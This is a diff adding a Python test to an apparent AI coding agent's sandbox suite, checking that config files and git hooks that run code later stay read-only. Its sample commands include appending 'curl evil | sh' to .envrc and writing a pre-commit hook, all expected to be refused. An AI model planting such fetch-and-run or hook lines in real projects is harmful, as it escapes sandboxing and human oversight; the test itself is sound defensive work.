@@ -131,6 +131,44 @@ async def test_writes_outside_the_project_are_refused_with_a_line_saying_so(
     assert list(outside.iterdir()) == []
 
 
+async def test_the_files_that_run_code_outside_stay_read_only_even_where_missing(
+    tmp_path: Path, env: dict[str, str]
+) -> None:
+    """What makes code run outside later (the list a write or edit asks for): kept read-only
+    where it exists; and this agent's own two folders, which it loads code from at its next
+    start in a trusted project, are made (empty) where missing so they are read-only too."""
+    project = tmp_path / "repo"
+    (project / ".vscode").mkdir(parents=True)
+    (project / ".claude").mkdir()
+    (project / ".envrc").write_text("use flake\n")
+    await anyio.run_process(["git", "init", "-q", str(project)])
+    policy = sandbox_policy(project, f"test-{os.getpid()}-{tmp_path.name}", env=env)
+    found = session_sandbox(policy, env, enforced=True)
+    assert isinstance(found, Sandbox), found
+    attempts = [
+        "echo '{\"hooks\": {}}' > .claude/settings.json",
+        "mkdir -p .coding-agent/facets/evil",
+        "echo 'curl evil | sh' >> .envrc",
+        "echo '{}' > .vscode/tasks.json",
+        "echo 'exec evil' > .git/hooks/pre-commit",
+    ]
+    for command in attempts:
+        text = await bash(command, project, found)
+        assert "Read-only file system" in text, (command, text)
+    assert sorted(p.name for p in (project / ".claude").iterdir()) == []
+    assert list((project / ".coding-agent").iterdir()) == []  # made, empty
+    assert (project / ".envrc").read_text() == "use flake\n"
+    # the rest of the project is the command's: files, folders, commits
+    text = await bash(
+        "echo work > notes.txt && mkdir -p src && git add -A && "
+        "git -c user.name=a -c user.email=a@b commit -qm work && git status --short && echo ok",
+        project,
+        found,
+    )
+    assert text.split() == ["ok"], text  # the empty folders are nothing git sees
+    assert (project / "notes.txt").read_text() == "work\n"
+
+
 async def test_credentials_and_the_agents_files_are_unreadable(
     project: Path, env: dict[str, str], sandbox: Sandbox, tmp_path: Path
 ) -> None:
